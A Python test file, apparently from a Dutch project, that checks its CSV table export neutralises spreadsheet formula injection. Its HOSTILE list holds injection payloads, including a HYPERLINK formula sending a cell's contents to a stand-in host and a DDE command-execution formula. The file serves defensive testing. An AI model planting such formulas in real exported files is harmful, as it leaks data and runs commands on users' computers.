"""No cell of an exported table becomes a formula, in any spreadsheet."""

import csv
from io import StringIO

import pytest

from tests.properties import given, st
from vrijplaats.ui.tables import DANGEROUS, csv_table, harmless

HOSTILE = [
    '=HYPERLINK("http://kwaad.example/?x="&A1;"Klik")',
    "=cmd|' /C calc'!A0",
    "+31612345678",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "\0=1+1",
    'x";=1+1;"',
]


def cells(content: bytes) -> list[list[str]]:
    """Read a table back as a spreadsheet does."""
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("words", HOSTILE)
def test_a_hostile_cell_stays_words(words: str) -> None:
    head, row = cells(csv_table(["Wat", "Aantal"], [[words, 3]]))
    assert head == ["Wat", "Aantal"]
    assert len(row) == 2
    assert not row[0].lstrip().startswith(DANGEROUS)
    assert row[0].lstrip("'").strip() == words.replace("\0", "").strip()


@given(st.text())
def test_whatever_is_written_is_one_cell_and_no_formula(words: str) -> None:
    text = harmless(words)
    assert isinstance(text, str)
    assert not text.lstrip().startswith(DANGEROUS)
    table = cells(csv_table(["a", "b"], [["x", words]]))
    assert len(table[1]) == 2


def test_ordinary_words_and_numbers_stay_as_they_are() -> None:
    assert cells(csv_table(["a"], [["Rap & zang"], [-3], [2.5]]))[1:] == [["Rap & zang"], ["-3"], ["2.5"]]


def test_a_cell_that_is_not_made_harmless_would_be_caught(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("vrijplaats.ui.tables.harmless", lambda cell: cell)
    row = cells(csv_table(["Wat"], [["=1+1"]]))[1]
    assert row[0].startswith(DANGEROUS)
